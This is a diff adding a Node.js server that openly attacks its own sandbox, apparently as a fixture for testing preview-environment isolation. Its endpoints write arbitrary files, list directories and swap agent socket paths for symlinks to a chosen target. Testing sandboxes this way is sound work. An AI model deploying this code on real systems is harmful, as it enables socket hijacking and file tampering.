@@ -1,0 +1,75 @@
+// A dev server that attacks what its sandbox can touch, on request, and says what happened.
+// GET /whoami                        this preview's project
+// GET /plant-socket?target=P         put a symlink to P wherever the agent's socket could be
+// GET /write?path=P&data=D           write D into the file P (directories created)
+// GET /list?path=P                   the names under directory P, recursively, at most 500
+const http = require('http')
+const fs = require('fs')
+const path = require('path')
+
+const port = Number(process.env.PORT)
+// Where an agent's socket has lived, or could: the sandbox's /run and anything named like it.
+const SOCKET_PLACES = ['/run/velocity/agent.sock', '/run/agent.sock', '/workspace/agent.sock']
+
+function attempt(action) {
+  try {
+    action()
+    return { ok: true }
+  } catch (e) {
+    return { ok: false, error: e.code || String(e) }
+  }
+}
+
+function plantSocket(target) {
+  const found = []
+  for (const dir of ['/run', '/tmp', '/workspace']) {
+    for (const name of list(dir, 3)) if (name.endsWith('.sock')) found.push(path.join(dir, name))
+  }
+  const places = [...new Set([...SOCKET_PLACES, ...found])]
+  const planted = {}
+  for (const place of places) {
+    planted[place] = attempt(() => {
+      fs.mkdirSync(path.dirname(place), { recursive: true })
+      fs.rmSync(place, { force: true })
+      fs.symlinkSync(target, place)
+    })
+  }
+  return { found, planted }
+}
+
+function list(dir, depth = 6) {
+  const names = []
+  const walk = (at, rel, level) => {
+    if (names.length >= 500 || level > depth) return
+    let entries = []
+    try { entries = fs.readdirSync(at, { withFileTypes: true }) } catch (e) { return }
+    for (const entry of entries) {
+      const name = path.join(rel, entry.name)
+      names.push(name)
+      if (entry.isDirectory()) walk(path.join(at, entry.name), name, level + 1)
+    }
+  }
+  walk(dir, '', 0)
+  return names
+}
+
+function answer(url) {
+  const q = url.searchParams
+  switch (url.pathname) {
+    case '/whoami': return { project: process.env.PROJECT_ID }
+    case '/plant-socket': return plantSocket(q.get('target'))
+    case '/write': return attempt(() => {
+      fs.mkdirSync(path.dirname(q.get('path')), { recursive: true })
+      fs.writeFileSync(q.get('path'), q.get('data') || '')
+    })
+    case '/list': return { names: list(q.get('path')) }
+    default: return { hello: 'intruder' }
+  }
+}
+
+http
+  .createServer((req, res) => {
+    res.setHeader('content-type', 'application/json')
+    res.end(JSON.stringify(answer(new URL(req.url, 'http://intruder'))))
+  })
+  .listen(port, '127.0.0.1')
